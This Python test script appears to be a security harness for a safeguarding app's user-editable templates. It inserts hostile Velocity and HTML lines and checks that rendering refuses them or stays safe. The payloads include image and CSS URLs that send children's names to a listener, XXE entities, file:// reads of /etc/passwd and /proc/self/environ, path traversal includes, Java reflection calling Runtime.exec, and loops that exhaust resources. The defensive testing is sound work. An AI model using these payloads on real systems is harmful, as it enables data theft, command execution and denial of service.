#!/usr/bin/env python3
"""Hostile home templates: each case writes one override under <home>/templates/ (the shared or
plugin template with hostile lines put in at a known line), renders a demo meeting's agenda, and
checks:

- the render fails with one clear message naming the template and the line (no stack trace,
  no 'internal error'), or renders safely;
- a local HTTP listener (and a bare TCP one) receives nothing: no request, no child's name;
- no file outside templates/ reaches the output (a marker file's text), no image is embedded
  from file://, no command runs (a marker file is not created), nothing reflective is printed;
- the render is bounded (under 90 s) and leaves no .part file.

Usage: hostile_templates.py [--json OUT]
"""
import argparse, http.server, json, os, re, shutil, socket, sys, threading, time, urllib.parse
import atk

DIST_T = os.path.join(os.path.dirname(os.path.dirname(atk.SG)), "templates")
PLUGIN_T = os.path.join(atk.ROOT, "plugins", "lancashire", "src", "main", "resources", "templates")
HITS = []


class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        HITS.append(urllib.parse.unquote_plus(self.path)); self.send_response(404); self.end_headers()
    do_POST = do_HEAD = do_GET

    def log_message(self, *a):
        pass


def cases(P, T, work):
    """(name, template file, line after which to insert (0 = replace whole file), hostile text, format)."""
    url = f"http://127.0.0.1:{P}"
    secret = os.path.join(work, "secret.txt")
    evil = os.path.join(work, "evil.vm")
    pwn = os.path.join(work, "pwned")
    CN, AG, AT = "lancashire/case-notes.vm", "agenda.vm", "agenda.text.vm"
    return [
        # the PDF renderer and resources
        ("img-remote-child-name", CN, 8, f'<img src="{url}/img.png?n=$case.child.name&amp;d=$case.child.dateOfBirth" />', "pdf"),
        ("css-background-url", CN, 8, f'<div style="background-image: url({url}/bg.png?n=$case.child.name)">x</div>', "pdf"),
        ("link-stylesheet", AG, 3, f'<link rel="stylesheet" href="{url}/s.css" />', "pdf"),
        ("style-import", AG, 3, f'<style>@import url({url}/imp.css);</style>', "pdf"),
        ("font-face-remote", AG, 3, f'<style>@font-face {{ font-family: X; src: url({url}/f.ttf); }} body {{ font-family: X; }}</style>', "pdf"),
        ("img-protocol-relative", CN, 8, f'<img src="//127.0.0.1:{P}/pr.png" />', "pdf"),
        ("base-href", AG, 3, f'<base href="{url}/" /><img src="rel.png" />', "pdf"),
        ("object-data", CN, 8, f'<object data="{url}/obj?n=$case.child.name" type="text/html">o</object>', "pdf"),
        ("iframe", CN, 8, f'<iframe src="{url}/frame"></iframe>', "pdf"),
        ("svg-image", CN, 8, f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10"><image xlink:href="{url}/svg.png" width="10" height="10"/></svg>', "pdf"),
        ("img-file-local", CN, 8, f'<img src="file://{os.path.join(work, "secret.png")}" />', "pdf"),
        ("img-file-etc", AG, 3, '<img src="file:///etc/hostname" /><img src="file:///proc/self/environ" />', "pdf"),
        ("img-jar-url", AG, 3, f'<img src="jar:{url}/x.jar!/a.png" />', "pdf"),
        ("xxe-entity", AG, 0, f'<?xml version="1.0"?>\n<!DOCTYPE html [<!ENTITY x SYSTEM "{url}/xxe"><!ENTITY y SYSTEM "file://{secret}">]>\n<html xmlns="http://www.w3.org/1999/xhtml"><body><p>&x;&y;</p></body></html>', "pdf"),
        ("html-file-secret-link", AG, 3, f'<link rel="stylesheet" href="file://{secret}" />', "pdf"),
        # Velocity: loops, recursion, size
        ("foreach-huge-range", AT, 3, '#foreach($i in [1..2000000000])x#end', "text"),
        ("foreach-nested", AT, 3, '#foreach($i in [1..100000])#foreach($j in [1..100000])$i#end#end', "text"),
        ("macro-recursion", AT, 3, '#macro(rec $n)#rec($n)#end#rec(1)', "text"),
        ("define-recursion", AT, 3, '#define($d)$d$d#end$d', "text"),
        ("string-doubling", AT, 3, '#set($s = "xxxxxxxxxxxxxxxx")#foreach($i in [1..40])#set($s = "$s$s")#end$s.length()', "text"),
        ("list-growth", AT, 3, '#set($l = [])#foreach($i in [1..1000000000])#set($d = $l.add("xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"))#end', "text"),
        ("output-blowup-html", AG, 3, '#foreach($i in [1..50000000])<p>Case notes repeated for effect</p>#end', "html"),
        ("output-blowup-pdf", CN, 8, '#foreach($i in [1..300000])<p>$case.child.name</p>#end', "pdf"),
        ("evaluate-recursion", AT, 3, '#set($t = "#evaluate($t)")#evaluate($t)', "text"),
        # reflection and Java
        ("class-tool", AT, 3, '$class.inspect("java.lang.Runtime")', "text"),
        ("getclass-forname", AT, 3, f'$meeting.getClass().forName("java.lang.Runtime").getRuntime().exec("touch {pwn}")', "text"),
        ("string-getclass", AT, 3, '#set($s = "a")$s.getClass().forName("java.lang.System").getProperty("user.home")', "text"),
        ("classloader", AT, 3, '$area.class.classLoader $area.getClass().getProtectionDomain()', "text"),
        ("list-getclass", AT, 3, f'#set($l = [1])$l.getClass().getName() $l.class.forName("java.lang.ProcessBuilder")', "text"),
        ("field-access-getclass", AT, 3, '$meeting.class.name', "text"),
        # files outside templates/
        ("include-etc-passwd", AT, 3, '#include("/etc/passwd")', "text"),
        ("include-relative", AT, 3, '#include("../conf/safeguard.properties")', "text"),
        ("parse-outside", AT, 3, f'#parse("../../../../../../../..{evil}")', "text"),
        ("parse-absolute", AT, 3, f'#parse("{evil}")', "text"),
        ("include-secret-abs", AG, 3, f'#include("{secret}")', "html"),
        ("include-db", AT, 3, '#include("../safeguard.db")', "text"),
        # broken syntax
        ("unclosed-if", AT, 3, '#if($meeting)', "text"),
        ("unknown-reference", AT, 3, '$child.secretField', "text"),
    ]


def pdf_text(raw):
    """The PDF's streams inflated (the page text is Flate-compressed), as latin-1 text."""
    import zlib
    out = []
    for m in re.finditer(rb"stream\r?\n", raw):
        try:
            out.append(zlib.decompressobj().decompress(raw[m.end():m.end() + 5_000_000]).decode("latin-1"))
        except zlib.error:
            pass
    text = "".join(out)
    # the embedded subset fonts number their glyphs from the character less 29 (checked on the shipped
    # agenda): shift the shown strings back, so a marker or a child's name on a page can be found
    shown = "".join(re.findall(r"\(((?:[^()\\\\]|\\\\.)*)\)", text))
    return text + "\n" + "".join(chr(ord(c) + 29) for c in shown if 0 < ord(c) < 200)


def insert(src, line, text):
    lines = src.split("\n")
    return "\n".join(lines[:line] + [text] + lines[line:])


MARK = "SECRET-MARKER-7f3a"


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--json")
    ap.add_argument("--only")
    a = ap.parse_args()
    work = os.path.join(atk.WORK, "templates")
    os.makedirs(work, exist_ok=True)
    with open(os.path.join(work, "secret.txt"), "w") as f:
        f.write(MARK + "\n")
    with open(os.path.join(work, "evil.vm"), "w") as f:
        f.write(MARK + " $meeting.getClass()\n")
    # a 1x1 PNG
    import base64
    open(os.path.join(work, "secret.png"), "wb").write(base64.b64decode(
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg=="))
    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
    P = srv.server_address[1]
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    home = atk.copy_home(atk.demo_home(), os.path.join(work, "home"))
    out_dir = os.path.join(work, "out")
    # baseline: the agenda PDF as shipped has how many images?
    os.makedirs(out_dir, exist_ok=True)
    rc, o, e, t = atk.sg(home, "meeting", "agenda", "2", "--format", "pdf", "--out", os.path.join(out_dir, "base.pdf"))
    base_images = open(os.path.join(out_dir, "base.pdf"), "rb").read().count(b"/Image") if rc == 0 else 0
    atk.log(f"baseline agenda pdf: rc={rc} {t:.1f}s, images {base_images}")
    results = []
    for name, tfile, line, text, fmt in cases(P, None, work):
        if a.only and a.only not in name:
            continue
        shutil.rmtree(os.path.join(home, "templates"), ignore_errors=True)
        shutil.rmtree(out_dir, ignore_errors=True); os.makedirs(out_dir)
        src_dir = PLUGIN_T if tfile.startswith("lancashire/") else DIST_T
        src = open(os.path.join(src_dir, tfile)).read()
        dst = os.path.join(home, "templates", tfile)
        os.makedirs(os.path.dirname(dst), exist_ok=True)
        body = text if line == 0 else insert(src, line, text)
        open(dst, "w").write(body)
        del HITS[:]
        pwn = os.path.join(work, "pwned")
        if os.path.exists(pwn):
            os.remove(pwn)
        out = os.path.join(out_dir, "agenda." + fmt)
        args = ["meeting", "agenda", "2", "--format", fmt] + (["--out", out] if fmt != "text" else [])
        try:
            rc, o, e, t = atk.sg(home, *args, timeout=180)
        except Exception as ex:  # timeout
            rc, o, e, t = -9, "", f"(harness: no answer in 180 s: {ex})", 180.0
        time.sleep(0.3)
        r = dict(case=name, template=tfile, line=line + 1 if line else 1, format=fmt, rc=rc, seconds=round(t, 1), message_problems=[],
                 message=(e.strip() or ("(stdout) " + o.strip()[:200] if rc else ""))[:700], problems=[])
        content = o
        if os.path.exists(out):
            raw = open(out, "rb").read()
            content += raw.decode("latin-1") + pdf_text(raw)
            pages = raw.count(b"/Type /Page") - raw.count(b"/Type /Pages")
        r["output_bytes"] = len(content) if not os.path.exists(out) else os.path.getsize(out)
        if fmt == "pdf" and os.path.exists(out):
            r["pdf_pages"] = pages
        if HITS:
            leaked = [c for c in atk.CHILD_NAMES if any(c.lower() in h.lower() or c.split()[0] in h for h in HITS)]
            r["problems"].append(f"listener received {len(HITS)} request(s): {HITS[:3]}" + (f"; child names {leaked}" if leaked else ""))
            r["leak"] = bool(leaked) or True
        if MARK in content or "root:x:0:0" in content or "mail.smtp.host" in content or "SQLite format" in content:
            r["problems"].append("a file outside templates/ reached the output")
        if os.path.exists(pwn):
            r["problems"].append("a command ran (marker file created)")
        if re.search(r"class (java|org)\.|org\.safeguard\.|java\.lang\.(Runtime|ProcessBuilder|System)|java\.util\.|ProtectionDomain|ClassLoader@|/root\b", content):
            r["problems"].append("reflection result printed: " + re.search(r".{0,60}(class (java|org)\.|org\.safeguard\.|java\.\w+\.\w+|ProtectionDomain|/root).{0,60}", content).group(0))
        if fmt == "pdf" and rc == 0 and os.path.exists(out):
            imgs = open(out, "rb").read().count(b"/Image")
            if imgs > base_images:
                r["problems"].append(f"the PDF embeds {imgs - base_images} more image(s) than the shipped template")
        if rc != 0:
            msg = (o + e)
            if not atk.clean(msg):
                r["problems"].append("stack trace or internal error")
            if len([l for l in e.strip().splitlines() if l.strip()]) > 6:
                r["message_problems"].append(f"{len(e.strip().splitlines())} lines of message")
            base = os.path.basename(tfile)[:-3]
            if base.replace(".text", "") not in msg and tfile[:-3] not in msg:
                r["message_problems"].append("message does not name the template")
            if not re.search(r"line \d+|\.vm:\d+", msg):
                r["message_problems"].append("message does not name the line")
            elif line and not re.search(rf"(?<!output )line {line + 1}\b|\.vm:{line + 1}\b", msg):
                r["message_problems"].append(f"message does not name template line {line + 1}"
                                             + (" (it names a line of the rendered output)" if "output line" in msg else ""))
        if t > 90:
            r["problems"].append(f"not bounded: {t:.0f}s")
        if atk.leftovers(out_dir) or atk.leftovers(home):
            r["problems"].append(f"left behind: {atk.leftovers(out_dir) + atk.leftovers(home)}")
        results.append(r)
        atk.log(f"{name:24s} {fmt:4s} exit {rc:3d} {t:5.1f}s out {r['output_bytes']:>9d}B  {r['message'][:150]!r}"
                + (f"\n    PROBLEMS: {r['problems']}" if r["problems"] else "")
                + (f"\n    message: {r['message_problems']}" if r["message_problems"] else ""))
    shutil.rmtree(os.path.join(home, "templates"), ignore_errors=True)
    s = dict(templates=len(results), refused=sum(r["rc"] != 0 for r in results),
             rendered=sum(r["rc"] == 0 for r in results),
             listener_requests=sum(1 for r in results if any("listener" in p for p in r["problems"])),
             child_name_leaks=sum(1 for r in results if any("child names" in p for p in r["problems"])),
             with_problems=[r["case"] for r in results if r["problems"]],
             with_message_problems=[r["case"] for r in results if r["message_problems"]])
    atk.log("SUMMARY " + json.dumps(s))
    if a.json:
        json.dump(dict(summary=s, cases=results), open(a.json, "w"), indent=1)
    sys.exit(1 if s["with_problems"] else 0)


if __name__ == "__main__":
    main()
